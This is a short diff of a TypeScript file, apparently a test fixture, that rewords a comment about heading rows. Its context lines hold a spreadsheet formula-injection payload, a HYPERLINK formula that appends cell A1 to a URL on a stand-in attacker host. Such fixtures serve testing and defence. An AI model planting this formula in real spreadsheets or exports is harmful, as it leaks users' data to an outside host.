@@ -21,7 +21,7 @@ let companyId: string;
 let ordId: string;
 let adpId: string;
 
-/** What it is and whose, of when, and where it is verified. */
+/** The heading says what it is and whose, of when, and where it is verified. */
 const headingRows = 3;
 
 const formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
